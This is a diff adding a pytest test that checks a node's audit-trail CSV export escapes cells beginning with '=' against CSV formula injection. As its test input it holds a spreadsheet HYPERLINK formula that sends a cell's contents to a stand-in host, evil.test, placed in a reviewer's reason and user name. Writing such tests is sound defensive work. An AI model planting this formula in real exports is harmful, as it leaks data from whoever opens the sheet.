@@ -17,6 +17,8 @@ from typing import Any
 import orjson
 import pytest
 
+from mais_node.audit import balp
+from mais_node.audit.actors import Actor
 from mais_node.audit.chain import chain_hash
 from mais_node.audit.export import CSV_COLUMNS
 from tests.api.conftest import make_node
@@ -261,3 +263,25 @@ def test_export_since_and_until_select_by_recorded_time(db: Path, pristine: Trai
         result = mais("audit", "export", "--store", store, "--format", "csv", *window, "--out", str(out), cwd=tmp_path)
         assert result.returncode == 0, result.stderr
         assert len(out.read_text().splitlines()) == rows + 1
+
+
+@pytest.mark.slow
+def test_a_csv_export_shows_a_formula_in_a_reason_as_text(db: Path, tmp_path: Path) -> None:
+    """OWASP CSV injection: ``mais audit export --format csv`` prefixes a cell beginning ``=`` with ``'``."""
+    formula = '=HYPERLINK("https://evil.test/?"&A1,"Click")'
+    nodes = make_node(tmp_path)  # the same node.db as ``db``
+    node = next(nodes)
+    services = node.services
+    reviewer = Actor(org_ods="NODE01", client_id="console:olu", user_id="olu", user_name=f"@{formula}")
+    event = balp.review_decision(
+        services.node, services.clock.now(), reviewer, enquiry_id="r-1", item="is-known", outcome="deny", reason=formula
+    )
+    services.checkpointer.append(event)
+    next(nodes, None)
+    out = tmp_path / "trail.csv"
+    result = mais("audit", "export", "--store", f"sqlite:///{db}", "--format", "csv", "--out", str(out), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    with out.open(newline="") as handle:
+        last = list(csv.DictReader(handle))[-1]
+    assert last["reason"] == "'" + formula
+    assert last["user"] == f"'@{formula}"
